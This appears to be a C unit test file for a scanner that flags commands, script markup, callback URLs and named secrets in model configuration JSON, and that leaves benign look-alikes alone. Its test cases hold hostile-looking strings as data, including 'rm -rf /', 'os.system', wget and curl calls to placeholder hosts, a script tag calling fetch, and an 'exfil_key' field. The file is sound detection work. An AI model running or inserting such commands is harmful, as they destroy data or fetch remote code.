/*
 * Values that act: commands, markup, addresses and credentials in metadata and
 * configurations, and what merely looks like them.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <string.h>

#include "assay/check.h"
#include "support/documents.h"

static struct model *m;

/* Findings of the four rules in a lone document, checked under the default policy. */
static size_t found_in(const char *name, const char *text, enum rule_id rule)
{
    struct err e = ERR_INIT;
    struct policy policy;
    struct check result;
    policy_default(&policy);
    model_free(m);
    m = NULL;
    if (!model_read_memory(&m, name, span_str(text), &e))
        fail_msg("%s: %s", name, e.text);
    struct check_input in = {.model = m, .complete = true, .policy = &policy, .today = 20000};
    if (!check_run(&result, &in, &e))
        fail_msg("%s", e.text);
    size_t others = 0;
    static const enum rule_id mine[] = {RULE_TEXT_CODE, RULE_TEXT_MARKUP, RULE_TEXT_CALLBACK,
                                        RULE_SECRET_NAMED};
    for (size_t i = 0; i < sizeof mine / sizeof *mine; i++)
        others += mine[i] == rule ? 0 : findings_of(m, mine[i]);
    if (others)
        fail_msg("%s: other findings than %s", text, rule == RULE_COUNT ? "none" : rules[rule].id);
    return rule == RULE_COUNT ? 0 : findings_of(m, rule);
}

static int end(void **state)
{
    (void)state;
    model_free(m);
    m = NULL;
    return 0;
}

struct value_case {
    const char *json;
    enum rule_id rule;
};

static void values_that_act_are_named(void **state)
{
    static const struct value_case cases[] = {
        {"{\"a\":\"import os; os.system('x')\"}", RULE_TEXT_CODE},
        {"{\"a\":\"import base64; print(1)\"}", RULE_TEXT_CODE},
        {"{\"a\":\"rm -rf /\"}", RULE_TEXT_CODE},
        {"{\"a\":{\"b\":[\"cd x && wget http://a.invalid/x\"]}}", RULE_TEXT_CODE},
        {"{\"a\":\"curl -s https://a.invalid\"}", RULE_TEXT_CODE},
        {"{\"a\":\"<ScRiPt>fetch(1)</script>\"}", RULE_TEXT_MARKUP},
        {"{\"a\":\"javascript:x()\"}", RULE_TEXT_MARKUP},
        {"{\"callback_url\":\"http://a.invalid\"}", RULE_TEXT_CALLBACK},
        {"{\"Webhook\":\"https://a.invalid\"}", RULE_TEXT_CALLBACK},
        {"{\"api_key\":\"SECRET\"}", RULE_SECRET_NAMED},
        {"{\"wandb-api-key\":\"0123456789abcdef\"}", RULE_SECRET_NAMED},
        {"{\"x\":{\"Password\":\"hunter2\"}}", RULE_SECRET_NAMED},
        {"{\"exfil_key\":\"SECRET_API_KEY_12345\"}", RULE_SECRET_NAMED},
    };
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
        if (found_in("config.json", cases[i].json, cases[i].rule) != 1)
            fail_msg("%s: no %s", cases[i].json, rules[cases[i].rule].id);
}

static void data_is_left_alone(void **state)
{
    static const char *const texts[] = {
        "{\"description\":\"import the model, then call model.eval()\"}",
        "{\"description\":\"a woman with long curl hair, of whom a painter made a picture that "
        "hangs in "
        "the hall: see http://a.invalid\"}",
        "{\"url\":\"https://example.org\",\"homepage\":\"http://example.org\"}",
        "{\"callback\":\"on_epoch_end\",\"webhooks\":[]}",
        "{\"api_key\":\"${API_KEY}\",\"password\":\"<your password>\",\"secret\":\"\"}",
        "{\"private_key\":\"server.pem\",\"access_token\":null,\"auth_token\":true}",
        "{\"sort_key\":\"name\",\"image_key\":\"image_2\",\"pad_token\":\"<pad>\"}",
        "{\"chat_template\":\"{{ bos_token }}\"}",
        "{\"keyboard\":\"os.system is a function\"}",
    };
    (void)state;
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
        found_in("config.json", texts[i], RULE_COUNT);
}

static void vocabularies_hold_pieces_of_anything(void **state)
{
    static const char *const names[] = {"vocab.json", "added_tokens.json", "tokenizer.json"};
    (void)state;
    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
        found_in(names[i], "{\"rm -rf \":1,\"a\":\"<script\"}", RULE_COUNT);
}

static void the_place_is_the_value_s(void **state)
{
    (void)state;
    assert_int_equal(found_in("config.json", "{\"a\":1, \"b\":\"rm -rf /\"}", RULE_TEXT_CODE), 1);
    for (size_t i = 0; i < m->verdict.count; i++)
        if (m->verdict.findings[i].rule == RULE_TEXT_CODE) {
            assert_int_equal(m->verdict.findings[i].origin.offset, 12);
            assert_int_equal(m->verdict.findings[i].origin.length, 10);
        }
}

static void no_finding_shows_a_secret(void **state)
{
    (void)state;
    assert_int_equal(found_in("config.json", "{\"api_key\":\"hunter2hunter2\"}", RULE_SECRET_NAMED),
                     1);
    for (size_t i = 0; i < m->verdict.count; i++)
        assert_null(strstr(m->verdict.findings[i].detail, "hunter2"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_teardown(values_that_act_are_named, end),
        cmocka_unit_test_teardown(data_is_left_alone, end),
        cmocka_unit_test_teardown(vocabularies_hold_pieces_of_anything, end),
        cmocka_unit_test_teardown(the_place_is_the_value_s, end),
        cmocka_unit_test_teardown(no_finding_shows_a_secret, end),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
